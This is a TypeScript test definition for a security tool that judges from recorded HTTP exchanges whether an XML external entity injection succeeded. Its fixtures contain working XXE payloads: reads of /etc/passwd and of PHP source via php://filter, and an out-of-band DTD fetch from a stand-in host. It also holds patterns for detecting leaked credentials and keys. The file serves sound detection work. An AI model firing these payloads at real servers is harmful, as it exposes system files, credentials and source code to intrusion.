import { defineImpactTest } from '../define.ts'
import { bytesOf, excerpt, shownIn, textIn } from '../reading/forms.ts'
import { PASSWD, PRIVATE_KEY, WIN_INI } from '../reading/known-content.ts'
import { citesOfAll, ownRequests } from '../reading/requests.ts'

const EXTERNAL = /<!ENTITY\s{1,8}(?:%\s{1,8})?[\w.-]{1,64}\s{1,8}(?:SYSTEM|PUBLIC)\s{1,8}["']([^"']{1,512})["']/i
const INTERNAL = /<!ENTITY\s{1,8}([\w.-]{1,64})\s{1,8}["']([\w -]{4,200})["']\s{0,4}>/i
const CONTENT: readonly { readonly asked: RegExp; readonly content: RegExp }[] = [
  { asked: /passwd/i, content: PASSWD },
  { asked: /win\.ini/i, content: WIN_INI },
  { asked: /shadow/i, content: /\broot:(?:\$[0-9a-z]{1,2}\$[^:\r\n]{8,200}|[*!x]):\d{0,6}:\d{0,6}:/ },
  { asked: /etc\/hosts/i, content: /^127\.0\.0\.1[ \t]{1,16}localhost\b/m },
  { asked: /os-release|issue/i, content: /^PRETTY_NAME="[^"]{1,80}"$|\\n \\l\b/m },
  { asked: /id_rsa|\.pem|\.key/i, content: PRIVATE_KEY },
  { asked: /web\.xml/i, content: /<web-app\b[^>]{0,400}>/i },
  // `<?php`, `root:` and `#!` in Base64.
  { asked: /convert\.base64-encode/i, content: /\b(?:PD9waH|PD9QSF|cm9vdDp4OjA6M|IyEv)[A-Za-z0-9+/]{16}/ },
]
const REFUSED =
  /DOCTYPE is disallowed when the feature|DTD is prohibited in this XML document|\b(?:DTDs?|DOCTYPEs?|(?:external )?entit(?:y|ies)) (?:is|are) (?:not allowed|disabled|forbidden|prohibited)|EntitiesForbidden|DTDForbidden|External(?:ReferenceForbidden| entity resolution is disabled)|accessExternalDTD/i

export default defineImpactTest({
  id: 'xml-entity-expanded',
  family: 'answer',
  title: { en: 'The entity was expanded', ko: 'XML 엔터티 확장' },
  reasoning: {
    en: 'A parser that expands an external entity puts the content of the file in its place; one that forbids it says so.',
    ko: '외부 엔터티를 확장하는 파서는 그 자리에 파일 내용을 넣고, 금지하는 파서는 금지되었다고 응답합니다.',
  },
  spec: 'https://owasp.org/www-project-web-security-testing-guide/stable/4-Web_Application_Security_Testing/07-Input_Validation_Testing/07-Testing_for_XML_Injection',
  appliesTo: 'Requests that declare an entity, answered with a body.',
  reads: ['exchanges', 'conversations'],
  applies: ({ attackClass }) => attackClass === 'xml_entity',
  test(of) {
    let refused = null
    let refusals = 0
    const requests = ownRequests(of)
    for (const { said, body, cites } of requests) {
      const external = EXTERNAL.exec(said)?.[1]
      const content = external === undefined ? undefined : CONTENT.find(({ asked }) => asked.test(external))
      const shown = content === undefined ? null : shownIn(body, content.content)
      if (external !== undefined && shown !== null)
        return {
          result: 'succeeded',
          confidence: 0.97,
          reason: {
            en: `The answer holds what the entity names: ${excerpt(external)}`,
            ko: `응답에 엔터티가 가리키는 내용이 있습니다: ${excerpt(external)}`,
          },
          cites,
          bytes: bytesOf(shown),
        }
      const told = shownIn(body, REFUSED)
      if (told !== null) {
        refusals++
        refused ??= told
        continue
      }
      const internal = INTERNAL.exec(said)
      const marker = internal?.[2] ?? ''
      // An echo of the request holds the declaration too.
      if (internal !== null && said.includes(`&${internal[1] ?? ''};`) && said.split(marker).length === 2) {
        const expanded = textIn(body, marker)
        if (expanded !== null && shownIn(body, /<!ENTITY/i) === null)
          return {
            result: 'likely',
            confidence: 0.75,
            reason: {
              en: `The parser expanded an entity of the request: ${excerpt(marker)}`,
              ko: `파서가 요청의 엔터티를 확장했습니다: ${excerpt(marker)}`,
            },
            cites,
            bytes: bytesOf(expanded),
          }
      }
    }
    if (refused === null || refusals < requests.length) return null
    return {
      result: 'failed',
      confidence: 0.9,
      reason: {
        en: `The parser refuses entities: ${excerpt(refused.text)}`,
        ko: `파서가 엔터티를 거부했습니다: ${excerpt(refused.text)}`,
      },
      cites: citesOfAll(requests),
      bytes: bytesOf(refused),
    }
  },
  examples: [
    {
      name: 'a list of accounts',
      of: {
        title: 'XXE',
        exchanges: [
          {
            method: 'POST',
            url: '/import',
            requestBody: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
            body: '<r>unknown customer root:x:0:0:root:/root:/bin/bash\n</r>',
          },
        ],
      },
      expect: 'succeeded',
    },
    {
      name: 'source of a page in Base64',
      of: {
        title: 'XXE',
        exchanges: [
          {
            method: 'POST',
            url: '/import',
            requestBody: '<!DOCTYPE a [<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=index.php">]><a>&x;</a>',
            body: '<r>PD9waHAKcmVxdWlyZSAnY29uZmlnLnBocCc7</r>',
          },
        ],
      },
      expect: 'succeeded',
    },
    {
      name: 'an entity within the request',
      of: {
        title: 'XXE',
        exchanges: [
          {
            method: 'POST',
            url: '/import',
            requestBody: '<!DOCTYPE a [<!ENTITY x "zq81kk">]><a>&x;</a>',
            body: '<r>No customer zq81kk</r>',
          },
        ],
      },
      expect: 'likely',
    },
    {
      name: 'refused',
      of: {
        title: 'XXE',
        exchanges: [
          {
            method: 'POST', url: '/import', status: 400,
            requestBody: '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
            body: 'SAXParseException: DOCTYPE is disallowed when the feature "http://apache.org/xml/features/disallow-doctype-decl" set to true.',
          },
        ],
      },
      expect: 'failed',
    }, // prettier-ignore
    {
      name: 'an echo of the request',
      of: {
        title: 'XXE',
        exchanges: [
          {
            method: 'POST', url: '/import',
            requestBody: '<!DOCTYPE a [<!ENTITY x "zq81kk">]><a>&x;</a>',
            body: '<pre>&lt;!DOCTYPE a [&lt;!ENTITY x "zq81kk">]>&lt;a>&amp;x;&lt;/a></pre>',
          },
        ],
      },
      expect: null,
    }, // prettier-ignore
    {
      name: 'fetched by the target without a word in the answer',
      of: {
        title: 'XXE',
        exchanges: [
          {
            method: 'POST',
            url: '/import',
            status: 500,
            requestBody: '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://203.0.113.9/d.dtd"> %x;]><a/>',
            body: 'Internal error',
          },
        ],
      },
      expect: null,
    },
  ],
})
